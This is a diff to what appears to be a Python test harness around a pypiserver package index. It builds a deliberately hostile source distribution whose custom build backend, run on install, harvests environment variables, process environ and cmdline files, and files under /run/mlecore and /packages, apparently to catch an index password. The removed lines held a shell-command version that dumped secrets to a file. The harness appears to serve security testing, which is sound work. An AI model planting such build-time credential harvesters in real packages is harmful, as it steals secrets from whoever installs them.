@@ -21,6 +21,8 @@ import pypiserver
 
 NAME = "mlecore-probe"  # of the only package of each
 MODULE = "mlecore_probe"
+GREEDY = "mlecore-greedy"  # a source distribution
+GREEDY_MODULE = "mlecore_greedy"
 WHEEL = f"{MODULE}-1.0-py3-none-any.whl"
 
 
@@ -114,14 +116,44 @@ def _credentials(password: str) -> str:
 
 
 def greedy_sdist() -> tuple[str, bytes]:
-    """Name and content of a newer source distribution, whose code takes what it can find of the index's password."""
-    steal = "import subprocess; subprocess.run('(env; cat /run/mlecore/*) >/etc/seen 2>&1', shell=True)\n"
+    """Name and content of a source distribution whose build collects all that could be the index's password.
+
+    Building and running it requires the index's other package.
+    """
+    build = f'[build-system]\nrequires = ["{NAME}"]\nbuild-backend = "backend"\nbackend-path = ["."]\n'
     texts = {
-        "setup.py": f"{steal}from setuptools import setup\nsetup(name={NAME!r}, version='2.0', py_modules=[])\n",
-        "PKG-INFO": f"Metadata-Version: 2.1\nName: {NAME}\nVersion: 2.0\n",
+        "pyproject.toml": f'{build}[project]\nname = "{GREEDY}"\nversion = "1.0"\ndependencies = ["{NAME}"]\n',
+        "PKG-INFO": f"Metadata-Version: 2.1\nName: {GREEDY}\nVersion: 1.0\n",
+        "backend.py": f"GREEDY, MODULE, NAME = {(GREEDY, MODULE, NAME)}\n{_GREEDY_BACKEND}",
     }
-    folder = f"{MODULE}-2.0"
+    folder = f"{GREEDY_MODULE}-1.0"
     return f"{folder}.tar.gz", _packed({f"{folder}/{name}": text for name, text in texts.items()})
+
+
+_GREEDY_BACKEND = """
+import glob, os, zipfile
+
+def build_wheel(folder, *_):
+    found = [repr(dict(os.environ)), __import__(MODULE).VALUE]
+    for path in glob.glob("/proc/[0-9]*/*") + glob.glob("/run/mlecore/*") + glob.glob("/packages/**", recursive=True):
+        try:
+            if not path.startswith("/proc") or path.endswith(("/environ", "/cmdline")):
+                found.append(path + open(path, encoding="latin-1").read())
+        except OSError:
+            pass
+    module, info = GREEDY.replace("-", "_"), GREEDY.replace("-", "_") + "-1.0.dist-info"
+    texts = {
+        module + ".py": "SEEN = " + repr("".join(found)),
+        info + "/METADATA": f"Metadata-Version: 2.1\\nName: {GREEDY}\\nVersion: 1.0\\nRequires-Dist: {NAME}\\n",
+        info + "/WHEEL": "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
+    }
+    texts[info + "/RECORD"] = "".join(f"{path},,\\n" for path in [*texts, info + "/RECORD"])
+    name = module + "-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(os.path.join(folder, name), "w") as archive:
+        for path, text in texts.items():
+            archive.writestr(path, text)
+    return name
+"""
 
 
 def wheel() -> bytes:
